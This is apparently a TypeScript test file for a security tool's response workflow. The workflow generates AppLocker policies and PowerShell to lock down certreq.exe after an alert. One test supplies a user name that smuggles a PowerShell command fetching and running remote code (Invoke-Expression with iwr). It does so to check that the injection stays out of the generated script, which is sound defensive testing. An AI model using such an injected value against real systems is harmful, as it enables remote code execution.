import { test } from 'node:test';
import assert from 'node:assert/strict';
import { SqliteStore, type EventRecord } from '../../src/store/index.js';
import { ActionRunner, parseWorkflows, planActions } from '../../src/respond/index.js';
import { ConfigError } from '../../src/configError.js';
import { certreqPolicy } from '../../src/policy/applocker.js';
import { parseXml, schemaViolations } from '../policy/applocker-schema.js';

const PKI_OPERATORS = 'S-1-5-21-1004336348-1177238915-682003330-1234';
const FACTS = { id: 'alert-0042', ruleId: 'certreq-download-upload', severity: 'high' as const, suppressed: false };

function ecsDoc(user: { name: string; domain?: string }): Record<string, unknown> {
  return {
    '@timestamp': '2024-05-01T10:15:30.123Z',
    event: { kind: 'alert', id: FACTS.id },
    rule: { id: FACTS.ruleId },
    host: { name: 'WS01.corp.example' },
    user,
    process: { pid: 4242, name: 'certreq.exe', executable: 'C:\\Windows\\System32\\certreq.exe' },
    procwatch: { severity: 'high' },
  };
}

const event: EventRecord = {
  key: 'ev-applocker-1',
  time: '2024-05-01T10:15:30.123Z',
  host: 'WS01.corp.example',
  doc: JSON.stringify({ system: { provider: 'Microsoft-Windows-Sysmon', eventId: 1, timeCreated: '2024-05-01T10:15:30.123Z', computer: 'WS01.corp.example' }, data: {}, origin: { file: 'test' } }),
};

test('applocker_policy: the alert stores the generated policy and PowerShell as the action result; nothing runs', async () => {
  const workflows = parseWorkflows([{ name: 'lock-certreq', type: 'applocker_policy', rules: ['certreq-download-upload'], allow: [PKI_OPERATORS, 'BUILTIN\\Administrators'] }]);
  const wf = workflows[0]!;
  assert.equal(wf.destructive, false);
  assert.equal(wf.dryRun, false);
  const actions = planActions(FACTS, ecsDoc({ name: 'bob', domain: 'CORP' }), workflows);
  assert.equal(actions.length, 1);
  assert.equal(actions[0]!.status, 'pending', 'non-destructive: no approval needed');
  assert.equal(actions[0]!.kind, 'applocker_policy');

  const store = new SqliteStore({ path: ':memory:' });
  try {
    const { actionsCreated } = await store.ingest([event], () => ({ alerts: [], actions }));
    const runner = new ActionRunner({ store, workflows, pollMs: 5 });
    await runner.start();
    await runner.idle();
    await runner.stop();
    const a = (await store.getAction(actionsCreated[0]!))!;
    assert.equal(a.status, 'succeeded');
    assert.equal(a.attempts, 1);
    const result = (a.result as { applocker_policy: { xml: string; powershell: string; mode: string; allow: string[]; host: string } }).applocker_policy;
    assert.equal(result.mode, 'AuditOnly');
    assert.deepEqual(result.allow, [PKI_OPERATORS, 'S-1-5-32-544']);
    assert.equal(result.host, 'WS01.corp.example');
    assert.equal(result.xml, certreqPolicy({ allow: [PKI_OPERATORS, 'S-1-5-32-544'] }).xml);
    assert.deepEqual(schemaViolations(parseXml(result.xml)), []);
    // The PowerShell tests the policy against the user who ran certreq in this alert.
    assert.match(result.powershell, /Test-AppLockerPolicy -XmlPolicy '\.\\procwatch-certreq-applocker\.xml' -Path 'C:\\Windows\\System32\\certreq\.exe' -User 'CORP\\bob'/);
    assert.match(result.powershell, /Set-AppLockerPolicy -XmlPolicy '\.\\procwatch-certreq-applocker\.xml' -Merge/);
    const audit = (await store.listAudit({ targetId: a.id, limit: 5, offset: 0 })).items.map((e) => e.action);
    assert.ok(audit.includes('action.succeeded'));
  } finally {
    await store.close();
  }
});

test('applocker_policy: enforce and restrict_admins are honoured; a hostile user name from the event stays out of the script', () => {
  const workflows = parseWorkflows([{ name: 'lock', type: 'applocker_policy', allow: PKI_OPERATORS, enforce: true, restrict_admins: true }]);
  const [action] = planActions(FACTS, ecsDoc({ name: "bob'; Invoke-Expression (iwr http://x) #", domain: 'CORP' }), workflows);
  const request = action!.request.applocker_policy as { xml: string; powershell: string; mode: string };
  assert.equal(request.mode, 'Enabled');
  assert.equal(request.xml, certreqPolicy({ allow: [PKI_OPERATORS], enforce: true, restrictAdmins: true }).xml);
  assert.ok(!request.powershell.includes('Invoke-Expression'));
  assert.match(request.powershell, /-User 'DOMAIN\\user-outside-the-allowed-groups'/);
});

test('applocker_policy config errors name the workflow and field', () => {
  const bad = (allow: unknown): unknown => [{ name: 'lock', type: 'applocker_policy', allow }];
  assert.throws(() => parseWorkflows(bad(undefined)), (e: Error) => e instanceof ConfigError && /\(lock\)\.allow: no allowed group/.test(e.message));
  assert.throws(() => parseWorkflows(bad(['CORP\\PKI Admins'])), /\(lock\)\.allow: "CORP\\\\PKI Admins" is neither a SID/);
  assert.throws(() => parseWorkflows(bad(['Everyone'])), /\(lock\)\.allow: .*restrict nobody/);
  assert.throws(() => parseWorkflows([{ name: 'lock', type: 'applocker_policy', allow: PKI_OPERATORS, enforce: 'yes' }]), /\(lock\)\.enforce/);
});
